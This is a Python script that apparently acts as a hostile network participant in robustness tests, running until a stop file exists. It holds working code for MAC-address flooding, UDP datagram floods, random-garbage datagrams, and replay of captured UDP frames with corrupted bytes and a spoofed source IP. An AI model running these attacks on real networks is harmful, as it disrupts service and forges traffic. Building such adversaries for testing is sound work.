"""Somebody on the network who means no good. Goes on until FILE is there.

`macs DEVICE FILE` sends frames from ever new MACs, to all and to ever new MACs that nobody has. `flood ADDRESS PORT FILE` sends
datagrams, many at a time. `garbage ADDRESS PORT FILE` sends some that mean nothing. `replay DEVICE PORT FILE` sends what leaves the device for a
UDP port again: as it was, with a byte changed, and from another address. Prints what it has sent, now and then.
"""

import os
import random
import socket
import struct
import sys
import time

ALL = 0x0003
IPV4 = b"\x08\x00"
LONGEST_FRAME = 1514
STRANGER = socket.inet_aton("10.77.9.9")
HEADER = 16
BLOCK = 256
PAUSE = 0.002
LENGTH = 1000
UDP_SEGMENT = 103


def until(file, send):
    number = 0
    while not os.path.exists(file):
        for _ in range(BLOCK):
            try:
                send(number)
            except OSError:
                # There is no room for more.
                pass
            number += 1
        print("sent", number, flush=True)
        # The processors are for others, too.
        time.sleep(PAUSE)


def on(device):
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sender.bind((device, 0))
    return sender


def macs(device, file):
    sender, rest = on(device), b"\x88\xb6" + bytes(100)

    def send(number):
        own, nobody = b"\x02\x99" + number.to_bytes(4, "big"), b"\x02\x98" + number.to_bytes(4, "big")
        sender.send((nobody if number % 2 else b"\xff" * 6) + own + rest)

    until(file, send)


def flood(address, port, file):
    sender, rest = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), bytes(LENGTH * 60)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sender.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, LENGTH)
    until(file, lambda _: sender.sendto(rest, (address, port)))


def garbage(address, port, file):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    until(file, lambda _: sender.sendto(random.randbytes(random.randrange(1200)), (address, port)))


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


def changed(frame, source=None):
    """The frame of IPv4 and UDP with a changed byte of the datagram, or from another address."""
    frame = bytearray(frame)
    # IPv4 does without UDP's own, which may be left to a device that is not there.
    frame[40:42] = b"\0\0"
    if source is None:
        # Half of them in the header.
        end = random.choice((42 + HEADER, len(frame)))
        frame[random.randrange(42, end)] ^= random.randrange(1, 256)
    else:
        frame[26:30], frame[24:26] = source, b"\0\0"
        frame[24:26] = checksum(bytes(frame[14:34]))
    return bytes(frame)


def replay(device, port, file):
    # It does not hear its own frames.
    listener = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL))
    listener.bind((device, ALL))
    listener.settimeout(0.2)
    sent = 0
    while not os.path.exists(file):
        try:
            frame, (_, _, kind, *_) = listener.recvfrom(65536)
        except TimeoutError:
            continue
        is_udp = frame[12:14] == IPV4 and frame[14] == 0x45 and frame[23] == socket.IPPROTO_UDP
        is_ours = kind == socket.PACKET_OUTGOING and is_udp and frame[36:38] == struct.pack("!H", port)
        # Longer ones are many datagrams, which a device is to cut.
        if not is_ours or not 42 < len(frame) <= LONGEST_FRAME:
            continue
        as_it_was = changed(frame, frame[26:30])
        for again in (as_it_was, changed(frame), changed(frame, STRANGER), as_it_was):
            listener.send(again)
            sent += 1
        if sent % 256 == 0:
            print("sent", sent, flush=True)


what, where, *rest = sys.argv[1:]
if what == "macs":
    macs(where, *rest)
elif what == "replay":
    replay(where, int(rest[0]), rest[1])
else:
    {"flood": flood, "garbage": garbage}[what](where, int(rest[0]), rest[1])
